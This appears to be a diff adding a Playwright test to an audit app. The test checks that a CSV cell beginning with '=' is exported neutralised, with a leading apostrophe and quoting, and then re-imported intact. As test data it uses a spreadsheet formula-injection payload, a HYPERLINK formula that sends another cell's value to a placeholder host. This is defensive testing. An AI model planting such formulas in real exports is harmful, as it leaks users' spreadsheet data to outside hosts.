@@ -93,3 +93,50 @@ test('Polish touchpoints in Windows-1250 are imported; the register exports as U
     'Zakup,Strona internetowa,Koszyk,E-commerce,"Zamówienie online, płatność"',
   );
 });
+
+test('a statement that starts with “=” exports as an inert cell and imports back as it was', async ({
+  page,
+}) => {
+  const formula = '=HYPERLINK("http://example.com/?leak="&B2, "Details")';
+  await openApp(page);
+  await createAuditThroughUi(page, 'Formula Retail', 'Injection audit');
+  await page.keyboard.press('Control+2');
+  await chooseCsv(page, 'Promises', 'promises-utf8-bom-comma.csv');
+  const first = page.getByRole('dialog', { name: 'Import from CSV' });
+  await first.getByRole('button', { name: 'Import', exact: true }).click();
+  await expect(first).toBeHidden();
+
+  // The statement is typed into the register as a person would.
+  const grid = page.getByRole('grid', { name: 'Promises' });
+  await grid.focus();
+  await page.keyboard.press('Control+Enter');
+  const draft = page.getByRole('group', { name: 'New promise' });
+  await draft.getByLabel('Promise').fill(formula);
+  await page.keyboard.press('Enter');
+  await expect(grid.getByRole('row').filter({ hasText: formula })).toHaveCount(1);
+  await page.keyboard.press('Escape');
+
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Export promises (CSV)' }).click();
+  const file = await (await download).path();
+  const text = readFileSync(file, 'utf8');
+  // An apostrophe before it, the whole cell quoted: a spreadsheet shows it as text.
+  expect(text).toContain(`,"'=HYPERLINK(""http://example.com/?leak=""&B2, ""Details"")",`);
+  expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
+
+  // Into a new audit: the statement comes back exactly, without the apostrophe.
+  await createAuditThroughUi(page, 'Formula Retail', 'Second audit');
+  await page.keyboard.press('Control+2');
+  await page.getByRole('button', { name: 'Import CSV…' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Import from CSV' });
+  await dialog.getByRole('radio', { name: /^Promises/ }).check();
+  const chooser = page.waitForEvent('filechooser');
+  await dialog.getByRole('button', { name: 'Choose a CSV file…' }).click();
+  await (await chooser).setFiles(file);
+  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
+  await expect(dialog).toBeHidden();
+  await page.getByRole('tab', { name: 'Promises' }).click();
+  const row = grid.getByRole('row').filter({ hasText: formula });
+  await expect(row).toHaveCount(1);
+  await expect(grid.getByRole('row').filter({ hasText: `'${formula}` })).toHaveCount(0);
+});
